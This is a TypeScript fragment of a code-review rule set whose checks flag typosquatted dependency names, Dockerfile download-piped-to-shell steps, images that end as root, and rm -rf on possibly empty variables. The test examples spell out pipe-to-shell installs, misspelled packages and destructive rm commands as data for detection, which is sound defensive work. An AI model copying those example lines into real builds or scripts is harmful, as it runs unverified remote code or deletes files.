  {
    id: 'deps.typosquat',
    description: 'A newly added dependency name is one or two characters away from a popular package (a common typosquatting trick).',
    severity: 'high',
    suggestion: 'Check the exact name on the registry; if you meant the popular package, fix the spelling.',
    kinds: ['package-manifest'],
    examples: {
      match: [
        { name: 'lodahs', path: 'package.json', before: pkg({}, { react: '^18.3.1' }), after: pkg({}, { lodahs: '^4.17.21', react: '^18.3.1' }), line: 6, side: 'after' },
        { name: 'cross-env without the hyphen', path: 'package.json', before: pkg({}, {}), after: pkg({}, { crossenv: '^7.0.3' }), line: 6, side: 'after' },
        { name: 'reqeusts in requirements', path: 'requirements.txt', before: 'flask==3.0.3\n', after: 'flask==3.0.3\nreqeusts==2.32.3\n', line: 2, side: 'after' },
      ],
      nearMiss: [
        { name: 'the real package', path: 'package.json', before: pkg({}, {}), after: pkg({}, { lodash: '^4.17.21' }) },
        { name: 'a legitimate neighbour', path: 'package.json', before: pkg({}, {}), after: pkg({}, { preact: '^10.22.0' }) },
        { name: 'existing dependency bumped', path: 'package.json', before: pkg({}, { expres: '^4.0.0' }), after: pkg({}, { expres: '^4.1.0' }) },
        { name: 'PEP 503 spelling of a real name', path: 'requirements.txt', before: '', after: 'python_dateutil==2.9.0\n' },
        { name: 'short name', path: 'package.json', before: pkg({}, {}), after: pkg({}, { ky: '^1.2.0' }) },
      ],
    },
    check(edit) {
      if (edit.after === null) return undefined;
      const out: EditRuleFinding[] = [];
      if (isPackageJson(edit)) {
        const before = npmDeps(edit, 'before');
        for (const [name, line] of npmDeps(edit, 'after')) {
          if (before.has(name)) continue;
          const t = typosquatOf(name, 'npm');
          if (t) out.push(atAfter(line, `"${name}" looks like a misspelling of the popular package "${t.target}" (${t.how})`));
        }
      } else if (/^requirements([-_.][\w.-]+)?\.(txt|in)$/i.test(edit.file.name) || edit.file.name === 'pyproject.toml') {
        const before = pythonDeps(edit, 'before');
        for (const [name, line] of pythonDeps(edit, 'after')) {
          if (before.has(name) || !edit.isAdded(line)) continue;
          const t = typosquatOf(name, 'pypi');
          if (t) out.push(atAfter(line, `"${name}" looks like a misspelling of the popular package "${t.target}" (${t.how})`));
        }
      }
      return out;
    },
  },
  {
    id: 'deps.dockerfile-pipe-to-shell',
    description: 'A Dockerfile RUN pipes a download straight into a shell or interpreter (curl … | sh).',
    severity: 'high',
    suggestion: 'Download to a file, verify its checksum (sha256sum -c) or signature, then run it; or install from the distribution packages.',
    kinds: ['dockerfile'],
    examples: {
      match: [
        {
          name: 'installer piped to bash',
          path: 'Dockerfile',
          before: 'FROM debian:bookworm-slim\nRUN apt-get update\n',
          after: 'FROM debian:bookworm-slim\nRUN apt-get update\nRUN curl -fsSL https://get.tool.dev/install.sh | bash\n',
          line: 3,
          side: 'after',
        },
        {
          name: 'continued RUN line',
          path: 'docker/api.Dockerfile',
          before: 'FROM node:20\n',
          after: 'FROM node:20\nRUN apt-get update \\\n && wget -qO- https://deb.nodesource.example/setup_20.x \\\n    | sh -\n',
          line: 4,
          side: 'after',
        },
      ],
      nearMiss: [
        { name: 'download then verify', path: 'Dockerfile', before: 'FROM alpine\n', after: 'FROM alpine\nRUN curl -fsSLo /tmp/t.tgz https://get.tool.dev/t.tgz && echo "abc  /tmp/t.tgz" | sha256sum -c -\n' },
        { name: 'curl piped to tar', path: 'Dockerfile', before: 'FROM alpine\n', after: 'FROM alpine\nRUN curl -fsSL https://get.tool.dev/t.tgz | tar -xz -C /usr/local/bin\n' },
      ],
    },
    check(edit) {
      if (edit.after === null) return undefined;
      const beforeTexts = new Set(instructions(edit, 'before').map((i) => i.text.replace(/\s+/g, ' ')));
      const out: EditRuleFinding[] = [];
      for (const ins of instructions(edit, 'after')) {
        if (ins.keyword !== 'RUN' || !PIPE_TO_SHELL_RE.test(ins.text) || beforeTexts.has(ins.text.replace(/\s+/g, ' '))) continue;
        if (!ins.lines.some((l) => edit.isAdded(l.line))) continue;
        const at = ins.lines.find((l) => /\|/.test(l.text) && edit.isAdded(l.line)) ?? ins.lines.find((l) => edit.isAdded(l.line))!;
        out.push(atAfter(at.line, 'a downloaded script is piped straight into a shell during the image build', { endLine: ins.lines[ins.lines.length - 1]!.line }));
      }
      return out;
    },
  },
  {
    id: 'deps.dockerfile-user-root',
    description: 'The final image now runs as root: USER root added after a non-root user, or the non-root USER removed.',
    severity: 'high',
    suggestion: 'Switch back to the unprivileged user (USER app) after the steps that need root.',
    kinds: ['dockerfile'],
    examples: {
      match: [
        {
          name: 'USER root appended',
          path: 'Dockerfile',
          before: 'FROM node:20-slim\nWORKDIR /app\nUSER node\nCMD ["node", "server.js"]\n',
          after: 'FROM node:20-slim\nWORKDIR /app\nUSER node\nUSER root\nCMD ["node", "server.js"]\n',
          line: 4,
          side: 'after',
        },
        {
          name: 'non-root user removed',
          path: 'Dockerfile',
          before: 'FROM python:3.12-slim\nRUN useradd -m app\nUSER app\nCMD ["gunicorn", "app:app"]\n',
          after: 'FROM python:3.12-slim\nRUN useradd -m app\nCMD ["gunicorn", "app:app"]\n',
          line: 3,
          side: 'before',
        },
        {
          name: 'new Dockerfile that drops to a user and back to root',
          path: 'services/api/Dockerfile',
          before: null,
          after: 'FROM node:20-slim\nUSER node\nRUN npm ci\nUSER 0\nCMD ["node", "server.js"]\n',
          line: 4,
          side: 'after',
        },
      ],
      nearMiss: [
        {
          name: 'temporary root for packages',
          path: 'Dockerfile',
          before: 'FROM node:20-slim\nUSER node\nCMD ["node", "server.js"]\n',
          after: 'FROM node:20-slim\nUSER root\nRUN apt-get update && apt-get install -y curl\nUSER node\nCMD ["node", "server.js"]\n',
        },
        { name: 'new image that never leaves root', path: 'Dockerfile', before: null, after: 'FROM alpine:3.20\nRUN apk add --no-cache curl\nCMD ["sh"]\n' },
        { name: 'builder stage as root', path: 'Dockerfile', before: 'FROM node:20 AS build\nRUN npm ci\nFROM gcr.io/distroless/nodejs20\nUSER nonroot\n', after: 'FROM node:20 AS build\nUSER root\nRUN npm ci\nFROM gcr.io/distroless/nodejs20\nUSER nonroot\n' },
      ],
    },
    check(edit) {
      if (edit.after === null) return undefined;
      const after = finalUser(edit, 'after');
      if (!after.root) return undefined;
      // A USER root written after a non-root user, and nothing switches back.
      if (after.ins && edit.isAdded(after.ins.line) && after.earlierNonRoot) {
        return atAfter(after.ins.line, 'the image switches back to root after a non-root user: its process runs with full privileges');
      }
      if (edit.before === null) return undefined;
      const before = finalUser(edit, 'before');
      if (before.root) return undefined;
      if (after.ins && edit.isAdded(after.ins.line)) return atAfter(after.ins.line, 'the image now ends as root: its process runs with full privileges');
      if (before.ins) return atBefore(before.ins.line, `the non-root "${before.ins.text}" was removed: the image now runs as root`);
      return undefined;
    },
  },
  {
    id: 'deps.rm-rf-unguarded-var',
    description: 'A script runs rm -r on "$VAR/…" where VAR may be empty or unset, which turns the path into /….',
    severity: 'high',
    suggestion: 'Write "${VAR:?}/…" so the shell stops when VAR is empty, or check it first ([ -n "$VAR" ] || exit 1).',
    kinds: ['shell-script', 'makefile', 'dockerfile', 'package-manifest', 'ci', 'github-action'],
    examples: {
      match: [
        {
          name: 'quoted variable with glob',
          path: 'scripts/clean.sh',
          before: '#!/usr/bin/env bash\nset -e\n',
          after: '#!/usr/bin/env bash\nset -e\nrm -rf "$BUILD_DIR/"*\n',
          line: 3,
          side: 'after',
          severity: 'critical',
        },
        { name: 'Makefile recipe', path: 'Makefile', before: 'clean:\n\t@echo clean\n', after: 'clean:\n\t@echo clean\n\trm -rf $(OUT_DIR)/lib\n', line: 3, side: 'after', severity: 'high' },
        { name: 'positional argument', path: 'bin/reset', before: '#!/bin/sh\n', after: '#!/bin/sh\nrm -fr "$1"/*\n', line: 2, side: 'after' },
      ],
      nearMiss: [
        { name: 'guarded with :?', path: 'scripts/clean.sh', before: '#!/bin/sh\n', after: '#!/bin/sh\nrm -rf "${BUILD_DIR:?}/"*\n' },
        { name: 'variable assigned in the script', path: 'scripts/clean.sh', before: '#!/bin/sh\n', after: '#!/bin/sh\nOUT=dist\nrm -rf "$OUT/"*\n' },
        { name: 'literal paths', path: 'scripts/clean.sh', before: '#!/bin/sh\n', after: '#!/bin/sh\nrm -rf ./dist build/\n' },
        { name: 'whole variable, no slash', path: 'scripts/clean.sh', before: '#!/bin/sh\n', after: '#!/bin/sh\nrm -rf "$TMP_WORK"\n' },
        { name: 'Makefile variable defined', path: 'Makefile', before: 'BUILD := build\n', after: 'BUILD := build\nclean:\n\trm -rf $(BUILD)/*\n' },
      ],
    },
    check(edit) {
      if (edit.after === null) return undefined;
      const make = hasKind(edit, 'makefile');
      const guarded = guardedVars(edit);
      const out: EditRuleFinding[] = [];
      for (const l of shellLines(edit)) {
        for (const hit of unguardedRms(l.text, make)) {
          if (guarded(hit.name)) continue;
          out.push(
            atAfter(l.line, `rm -r ${hit.arg} deletes ${hit.root ? 'everything under /' : hit.rest} if ${hit.name} is empty or unset`, {
              severity: hit.root ? 'critical' : 'high',
              suggestion: `Write "\${${/^\d$/.test(hit.name) ? hit.name : hit.name}:?}" instead of $${hit.name} so the shell stops when it is empty.`,
            }),
          );
        }
      }
      return out;
    },
  },
];
